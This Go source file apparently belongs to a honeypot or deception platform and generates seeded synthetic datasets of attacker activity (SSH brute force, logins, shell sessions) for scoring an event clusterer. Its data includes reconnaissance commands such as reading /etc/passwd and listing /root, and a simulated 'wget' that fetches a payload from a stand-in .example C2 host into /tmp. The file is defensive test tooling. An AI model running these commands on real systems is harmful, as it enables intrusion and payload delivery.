package scenario

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"hash/fnv"
	"math/rand/v2"
	"slices"
	"time"

	"google.golang.org/protobuf/types/known/timestamppb"

	apiv1 "github.com/decnet/decnet/gen/decnet/api/v1"
	eventv1 "github.com/decnet/decnet/gen/decnet/event/v1"
)

// Epoch is the time of hour zero in every generated dataset.
var Epoch = time.Date(2026, 3, 2, 0, 0, 0, 0, time.UTC)

// Dataset is the output of one generator run.
type Dataset struct {
	// Events are the stored events in time order, as the control plane
	// hands them to its workers.
	Events []*apiv1.StoredEvent
	// Identity maps each session id to its identity id, as a perfect
	// identity layer would assign it.
	Identity map[string]string
	// Campaign maps each identity id to its truth campaign label. It is
	// for scoring only and must never reach the clusterer.
	Campaign map[string]string
}

// Generate produces the events of s from seed. The same scenario and seed
// always give the same events.
func Generate(s *Scenario, seed uint64) *Dataset {
	g := &gen{
		seed: seed,
		rng:  rand.New(rand.NewPCG(seed, 0xca4a)), //nolint:gosec // G404: a scenario must replay from its seed
		ds:   &Dataset{Identity: map[string]string{}, Campaign: map[string]string{}},
	}
	end := 0.0
	for i := range s.Actors {
		a := &s.Actors[i]
		g.actor(a, a.Campaign)
		end = max(end, a.Start+a.Hours+a.Pause)
	}
	g.noise(s.Noise, end+24)
	slices.SortStableFunc(g.ds.Events, func(a, b *apiv1.StoredEvent) int {
		return a.GetEvent().GetTime().AsTime().Compare(b.GetEvent().GetTime().AsTime())
	})
	return g.ds
}

type gen struct {
	seed uint64
	rng  *rand.Rand
	ds   *Dataset
	// addrSeq numbers the generated source addresses.
	addrSeq int
}

// named returns a random stream fixed by the seed, a kind and a name, so
// that equal names in a scenario give equal values.
func (g *gen) named(kind, name string) *rand.Rand {
	h := fnv.New64a()
	h.Write([]byte(kind + "\x00" + name))
	return rand.New(rand.NewPCG(g.seed, h.Sum64())) //nolint:gosec // G404: a scenario must replay from its seed
}

// actor emits the sessions of one identity.
func (g *gen) actor(a *Actor, campaign string) {
	identity := g.uuid()
	g.ds.Campaign[identity] = campaign
	attacker := g.uuid()
	g.addrSeq++
	addr := fmt.Sprintf("2001:db8:%x::%x", g.addrSeq>>16, g.addrSeq&0xffff)
	targets := g.targets(a.Targets, a.Width)

	for i, start := range g.sessionTimes(a) {
		s := &session{
			identity: identity, attacker: attacker, addr: addr, start: start,
			decky: targets[i%len(targets)], service: a.Service, phase: a.Phase, tool: a.Tool,
		}
		switch a.Phase {
		case Brute:
			if a.Wordlist != "" {
				list := g.wordlist(a.Wordlist)
				from := g.rng.IntN(len(list))
				for k := range a.Tries {
					s.tries = append(s.tries, list[(from+k)%len(list)])
				}
			}
			if a.Finds != "" {
				c := g.credential(a.Finds)
				s.accepted = &c
			}
		case Shell:
			c := g.credential(a.Login)
			s.accepted = &c
			s.commands = slices.Clone(commands[:3+g.rng.IntN(len(commands)-2)])
			if a.C2 != "" {
				c2 := g.c2(a.C2)
				s.c2 = &c2
			}
		}
		g.emit(s)
	}
}

// noise emits n unrelated scanners, each its own identity and campaign,
// on one to three random deckies within [0, hours) hours, some of them
// brute-forcing a public wordlist whose default password the decoy
// accepts.
func (g *gen) noise(n int, hours float64) {
	for i := range n {
		a := &Actor{
			Label: fmt.Sprintf("noise-%d", i), Phase: Scan, Targets: g.uuid(), Width: 1 + g.rng.IntN(3),
			Service: "ssh", Start: g.rng.Float64() * hours, Hours: 1,
		}
		if g.rng.IntN(2) == 0 {
			a.Phase, a.Wordlist, a.Tries, a.Finds = Brute, "public-top", 5+g.rng.IntN(15), "public-default"
		}
		a.Sessions = a.Width
		g.actor(a, a.Label)
	}
}

// targets returns the first width deckies of the named set's order.
func (g *gen) targets(name string, width int) []string {
	order := slices.Clone(deckies)
	r := g.named("targets", name)
	r.Shuffle(len(order), func(i, j int) { order[i], order[j] = order[j], order[i] })
	return order[:width]
}

// sessionTimes spreads the sessions evenly over the actor's hours, with
// jitter, and inserts the pause halfway.
func (g *gen) sessionTimes(a *Actor) []time.Time {
	out := make([]time.Time, a.Sessions)
	step := a.Hours / float64(a.Sessions)
	for i := range out {
		h := a.Start + step*(float64(i)+0.25+0.5*g.rng.Float64())
		if i >= a.Sessions/2 && a.Sessions > 1 {
			h += a.Pause
		}
		out[i] = Epoch.Add(time.Duration(h * float64(time.Hour)))
	}
	return out
}

// session is one planned attacker connection.
type session struct {
	identity, attacker, addr string
	start                    time.Time
	decky, service           string
	phase                    PhaseKind
	tool                     string
	tries                    []cred
	accepted                 *cred
	commands                 []string
	c2                       *c2
}

func (g *gen) emit(s *session) {
	sid := g.uuid()
	g.ds.Identity[sid] = s.identity
	port := uint32(1024 + g.rng.IntN(60000))
	t := s.start
	add := func(kind string, fill func(*eventv1.Event)) {
		ev := &eventv1.Event{
			Id: g.uuid(), Time: timestamppb.New(t), AgentId: "00000000-0000-7000-8000-000000000001",
			Decky: s.decky, Service: s.service, Kind: kind,
			Source:      &eventv1.Endpoint{Address: s.addr, Port: port},
			Destination: &eventv1.Endpoint{Address: "2001:db8:ffff::10", Port: 22},
			SessionId:   sid,
		}
		fill(ev)
		g.ds.Events = append(g.ds.Events, &apiv1.StoredEvent{Event: ev, AttackerId: s.attacker})
	}
	step := func(seconds float64) { t = t.Add(time.Duration(seconds * float64(time.Second))) }

	add("connection.opened", func(ev *eventv1.Event) {
		ev.Payload = &eventv1.Event_ConnectionOpened{ConnectionOpened: &eventv1.ConnectionOpened{Transport: "tcp"}}
	})
	if s.tool != "" {
		step(0.1)
		add("client.fingerprinted", func(ev *eventv1.Event) {
			ev.Payload = &eventv1.Event_ClientFingerprinted{ClientFingerprinted: &eventv1.ClientFingerprint{
				SshClientVersion: "SSH-2.0-" + s.tool, Hassh: hashHex(s.tool),
			}}
		})
	}
	for _, c := range s.tries {
		step(0.5 + g.rng.Float64())
		add("auth.attempt", func(ev *eventv1.Event) { authAttempt(ev, c, eventv1.AuthOutcome_AUTH_OUTCOME_REJECTED) })
	}
	if s.accepted != nil {
		step(0.5 + g.rng.Float64())
		add("auth.attempt", func(ev *eventv1.Event) { authAttempt(ev, *s.accepted, eventv1.AuthOutcome_AUTH_OUTCOME_ACCEPTED) })
	}
	for _, line := range s.commands {
		step(2 + 10*g.rng.Float64())
		add("command", func(ev *eventv1.Event) {
			ev.Payload = &eventv1.Event_Command{Command: &eventv1.Command{Line: line, Channel: "shell"}}
		})
	}
	if s.c2 != nil {
		step(3)
		add("command", func(ev *eventv1.Event) {
			ev.Payload = &eventv1.Event_Command{Command: &eventv1.Command{Line: "wget " + s.c2.url, Channel: "shell"}}
		})
		step(1)
		add("download.requested", func(ev *eventv1.Event) {
			ev.Payload = &eventv1.Event_DownloadRequested{DownloadRequested: &eventv1.DownloadRequested{
				Url: s.c2.url, Tool: "wget", Outcome: "fetched", Sha256: s.c2.payload[:], Size: 1 << 20,
			}}
		})
		add("file.captured", func(ev *eventv1.Event) {
			ev.Payload = &eventv1.Event_FileCaptured{FileCaptured: &eventv1.FileCaptured{
				Sha256: s.c2.payload[:], Size: 1 << 20, Name: "/tmp/.x", Channel: "download", Url: s.c2.url, Stored: true,
			}}
		})
	}
	step(0.5)
	add("connection.closed", func(ev *eventv1.Event) {
		ev.Payload = &eventv1.Event_ConnectionClosed{ConnectionClosed: &eventv1.ConnectionClosed{
			DurationMs: uint64(t.Sub(s.start).Milliseconds()), Reason: "client_closed",
		}}
	})
}

// hashHex returns a stand-in HASSH: 32 hex digits fixed by the tool
// name.
func hashHex(name string) string {
	sum := sha256.Sum256([]byte("hassh\x00" + name))
	return hex.EncodeToString(sum[:16])
}

func authAttempt(ev *eventv1.Event, c cred, outcome eventv1.AuthOutcome) {
	sum := sha256.Sum256([]byte(c.password))
	ev.Payload = &eventv1.Event_AuthAttempt{AuthAttempt: &eventv1.AuthAttempt{
		Principal: c.principal, SecretKind: "plaintext", Mechanism: "ssh_password",
		Secret: []byte(c.password), SecretSha256: sum[:], Outcome: outcome,
	}}
}

// uuid returns a version 7 shaped UUID from the generator's stream.
func (g *gen) uuid() string {
	var b [16]byte
	binary.BigEndian.PutUint64(b[:8], g.rng.Uint64())
	binary.BigEndian.PutUint64(b[8:], g.rng.Uint64())
	b[6] = b[6]&0x0f | 0x70
	b[8] = b[8]&0x3f | 0x80
	h := hex.EncodeToString(b[:])
	return h[:8] + "-" + h[8:12] + "-" + h[12:16] + "-" + h[16:20] + "-" + h[20:]
}

type cred struct{ principal, password string }

var principals = []string{"root", "admin", "ubuntu", "user", "test", "oracle", "pi", "git"}

func (g *gen) credential(name string) cred {
	r := g.named("credential", name)
	return cred{principals[r.IntN(len(principals))], randomWord(r, 12)}
}

func (g *gen) wordlist(name string) []cred {
	r := g.named("wordlist", name)
	out := make([]cred, 200)
	for i := range out {
		out[i] = cred{principals[r.IntN(len(principals))], randomWord(r, 5+r.IntN(8))}
	}
	return out
}

type c2 struct {
	url     string
	payload [32]byte
}

// c2 returns the named endpoint, under the reserved .example domain so
// that no generated value names a real host.
func (g *gen) c2(name string) c2 {
	r := g.named("c2", name)
	host := fmt.Sprintf("%s.example:%d", randomWord(r, 10), []int{80, 8080, 443, 8443}[r.IntN(4)])
	var c c2
	c.url = "http://" + host + "/" + randomWord(r, 6)
	for i := 0; i < len(c.payload); i += 8 {
		binary.BigEndian.PutUint64(c.payload[i:], r.Uint64())
	}
	return c
}

func randomWord(r *rand.Rand, n int) string {
	const alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
	b := make([]byte, n)
	for i := range b {
		b[i] = alphabet[r.IntN(len(alphabet))]
	}
	return string(b)
}

var (
	deckies  = []string{"web01", "db02", "files03", "mail04", "edge05", "vpn06", "git07", "ci08", "nas09", "dns10", "hr11", "erp12"}
	commands = []string{"uname -a", "id", "cat /etc/passwd", "ps aux", "netstat -tnlp", "crontab -l", "ls -la /root"}
)
